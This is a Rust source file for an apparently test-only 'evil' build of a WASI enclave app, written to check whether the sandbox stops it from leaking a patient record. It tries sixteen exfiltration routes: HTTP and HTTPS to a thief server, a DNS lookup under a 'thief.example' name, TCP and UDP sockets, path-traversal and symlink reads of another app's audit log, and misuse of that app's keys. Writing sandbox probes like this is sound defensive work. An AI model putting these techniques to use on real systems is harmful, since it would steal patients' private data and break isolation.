//! What an evil version would do: tell somebody else what it saw, each way that a program has.
//!
//! It is compiled in by `--features evil`, and so makes another component with another code hash. What comes of each attempt it
//! writes to its log.

use std::env;
use std::fs;
use std::io::Read as _;

use wasip2::filesystem::preopens::get_directories;
use wasip2::http::outgoing_handler;
use wasip2::http::types::{Fields, OutgoingRequest, Scheme};
use wasip2::sockets::instance_network::instance_network;
use wasip2::sockets::ip_name_lookup::resolve_addresses;
use wasip2::sockets::network::{
    ErrorCode, IpAddress, IpAddressFamily, IpSocketAddress, Ipv4SocketAddress, Ipv6SocketAddress,
};
use wasip2::sockets::tcp_create_socket::create_tcp_socket;
use wasip2::sockets::udp::OutgoingDatagram;
use wasip2::sockets::udp_create_socket::create_udp_socket;

use crate::privasys::enclave_os::attestation::set_attestation_extension;
use crate::privasys::enclave_os::crypto::{self, SignAlgorithm};
use crate::privasys::enclave_os::https::{self, Method, Request};
use crate::privasys::enclave_os::keystore;
use crate::statement::hex;
use crate::{PatientRecord, key};

/// Tries everything, and logs what came of it.
pub fn steal(patient: &PatientRecord) {
    let loot = format!("{}, radius {}", patient.name, patient.radius.mean);
    let thief = Thief::of_the_environment(&loot);
    println!("what {} ways of stealing a record came to:", ATTEMPTS.len());
    for (way, attempt) in ATTEMPTS {
        match attempt(&thief) {
            Ok(what) => println!("NOT STOPPED  {way}: {what}"),
            Err(reason) => println!("stopped      {way}: {reason}"),
        }
    }
    println!("NOT STOPPED  to this log, which the app's owner can read: {loot}");
}

/// Where the loot should go.
struct Thief {
    /// `host:port` of the thief's own server.
    server: String,
    /// The server that the app may talk to.
    allowed: String,
    loot: String,
    /// The same, fit for addresses and names.
    word: String,
}

impl Thief {
    fn of_the_environment(loot: &str) -> Self {
        let variable = |name| env::var(name).unwrap_or_default();
        let word = hex(loot.as_bytes());
        Self { server: variable("THIEF"), allowed: variable("MEDICAL_API"), loot: loot.to_owned(), word }
    }

    fn host_and_port(&self) -> (&str, u16) {
        let (host, port) = self.server.rsplit_once(':').unwrap_or((&self.server, ""));
        (host, port.parse().unwrap_or(443))
    }

    /// The server without its name, so that no lookup is in the way.
    fn address(&self) -> IpSocketAddress {
        with_port(IpAddress::Ipv4((127, 0, 0, 1)), self.host_and_port().1)
    }

    /// Where a redirect should lead to, as a parameter of a query.
    fn as_parameter(&self) -> String {
        format!("https://{}/{}", self.server, self.word).replace(':', "%3A").replace('/', "%2F")
    }
}

type Attempt = fn(&Thief) -> Result<String, String>;

const ATTEMPTS: [(&str, Attempt); 16] = [
    ("https to another host, by fetch", |thief| fetch(&format!("https://{}/{}", thief.server, thief.word))),
    ("plain http, by fetch", |thief| fetch(&format!("http://{}/{}", thief.server, thief.word))),
    ("https to another host, by wasi:http", |thief| wasi_http(thief, &Scheme::Https)),
    ("plain http, by wasi:http", |thief| wasi_http(thief, &Scheme::Http)),
    ("a redirect from the allowed host", |thief| {
        fetch(&format!("{}/moved?to={}", thief.allowed, thief.as_parameter()))
    }),
    ("a TCP socket", |thief| {
        let (host, port) = thief.host_and_port();
        send_over_tcp(with_port(look_up(host)?, port), &thief.loot)
    }),
    ("a TCP socket to an address", |thief| send_over_tcp(thief.address(), &thief.loot)),
    ("a UDP datagram", |thief| send_over_udp(thief.address(), &thief.loot)),
    ("a question to the DNS", |thief| {
        look_up(&format!("{}.thief.example", &thief.word[..thief.word.len().min(60)]))?;
        Ok("asked".to_owned())
    }),
    ("the other app's files, by path", |_| {
        let paths = ["/../diagnosis/audit.log", "/../app:diagnosis/audit.log", "../../diagnosis/audit.log"];
        first_success(paths.map(|path| fs::read_to_string(path).map_err(|error| error.to_string())))
    }),
    ("the other app's files, by a link", |_| {
        let (root, _) = get_directories().into_iter().next().ok_or("there is no directory")?;
        root.symlink_at("../diagnosis/audit.log", "link").map_err(|error| error.to_string())?;
        let read = fs::File::open("/link").and_then(|mut file| {
            let mut text = String::new();
            file.read_to_string(&mut text).map(|_| text)
        });
        read.map_err(|error| error.to_string())
    }),
    ("the other app's key, to sign", |thief| {
        let names = ["app:diagnosis/key:diagnosis", "../diagnosis/diagnosis", "diagnosis/diagnosis"];
        let sign = |name| crypto::sign(name, SignAlgorithm::EcdsaP256Sha256, thief.loot.as_bytes());
        first_success(names.map(|name| sign(name).map(|_| format!("signed with {name}"))))
    }),
    ("the other app's key, off the disk", |_| {
        let names = ["app:diagnosis/key:diagnosis", "../diagnosis/diagnosis", "diagnosis/diagnosis"];
        first_success(names.map(|name| keystore::load_key(name).map(|()| format!("loaded {name}"))))
    }),
    ("its own key, to take away", |_| {
        let public = keystore::export_public_key(key::NAME)?;
        Err(format!("only the public half can be had, {} bytes of it", public.len()))
    }),
    ("to the host that it may talk to, in the address", |thief| {
        fetch(&format!("{}/v1/reference-ranges?{}", thief.allowed, thief.word))
    }),
    ("to everybody, in its certificate", |thief| {
        set_attestation_extension(9, thief.loot.as_bytes())?;
        Ok("whoever connects sees it, 8 KiB at most".to_owned())
    }),
];

fn fetch(url: &str) -> Result<String, String> {
    let request = Request {
        method: Method::Get,
        url: url.to_owned(),
        headers: Vec::new(),
        body: None,
        ratls: None,
        ca_roots_der: None,
    };
    https::fetch(&request).map(|response| format!("answered {}", response.status))
}

fn wasi_http(thief: &Thief, scheme: &Scheme) -> Result<String, String> {
    let request = OutgoingRequest::new(Fields::new());
    let unfit = |()| "the request cannot be made".to_owned();
    request.set_scheme(Some(scheme)).map_err(unfit)?;
    request.set_authority(Some(&thief.server)).map_err(unfit)?;
    request.set_path_with_query(Some(&format!("/{}", thief.word))).map_err(unfit)?;
    let answer = outgoing_handler::handle(request, None).map_err(|error| error.to_string())?;
    answer.subscribe().block();
    match answer.get() {
        Some(Ok(Ok(response))) => Ok(format!("answered {}", response.status())),
        Some(Ok(Err(error))) => Err(error.to_string()),
        Some(Err(())) | None => Err("there is no answer".to_owned()),
    }
}

fn look_up(name: &str) -> Result<IpAddress, String> {
    let addresses = resolve_addresses(&instance_network(), name).map_err(told)?;
    let address = waited(|| addresses.resolve_next_address(), || addresses.subscribe().block())?;
    address.ok_or_else(|| "the name has no address".to_owned())
}

fn send_over_tcp(to: IpSocketAddress, loot: &str) -> Result<String, String> {
    let socket = create_tcp_socket(family(&to)).map_err(told)?;
    socket.start_connect(&instance_network(), to).map_err(told)?;
    let (_, output) = waited(|| socket.finish_connect(), || socket.subscribe().block())?;
    output.blocking_write_and_flush(loot.as_bytes()).map_err(|error| error.to_string())?;
    Ok("sent".to_owned())
}

fn send_over_udp(to: IpSocketAddress, loot: &str) -> Result<String, String> {
    let socket = create_udp_socket(family(&to)).map_err(told)?;
    socket.start_bind(&instance_network(), with_port(IpAddress::Ipv4((0, 0, 0, 0)), 0)).map_err(told)?;
    waited(|| socket.finish_bind(), || socket.subscribe().block())?;
    let (_, output) = socket.stream(None).map_err(told)?;
    output.subscribe().block();
    output.check_send().map_err(told)?;
    let datagram = OutgoingDatagram { data: loot.as_bytes().to_vec(), remote_address: Some(to) };
    match output.send(&[datagram]).map_err(told)? {
        0 => Err("it was not taken".to_owned()),
        _ => Ok("sent".to_owned()),
    }
}

/// Asks again and again, waiting between, until there is an answer.
fn waited<T>(ask: impl Fn() -> Result<T, ErrorCode>, wait: impl Fn()) -> Result<T, String> {
    loop {
        match ask() {
            Err(ErrorCode::WouldBlock) => wait(),
            answer => return answer.map_err(told),
        }
    }
}

fn told(error: ErrorCode) -> String {
    error.to_string()
}

fn with_port(address: IpAddress, port: u16) -> IpSocketAddress {
    match address {
        IpAddress::Ipv4(address) => IpSocketAddress::Ipv4(Ipv4SocketAddress { port, address }),
        IpAddress::Ipv6(address) => {
            IpSocketAddress::Ipv6(Ipv6SocketAddress { port, flow_info: 0, address, scope_id: 0 })
        }
    }
}

fn family(address: &IpSocketAddress) -> IpAddressFamily {
    match address {
        IpSocketAddress::Ipv4(_) => IpAddressFamily::Ipv4,
        IpSocketAddress::Ipv6(_) => IpAddressFamily::Ipv6,
    }
}

/// The first that got through, or why the last did not.
fn first_success<const N: usize>(results: [Result<String, String>; N]) -> Result<String, String> {
    let mut reason = String::new();
    for result in results {
        match result {
            Ok(what) => return Ok(what),
            Err(error) => reason = error,
        }
    }
    Err(reason)
}
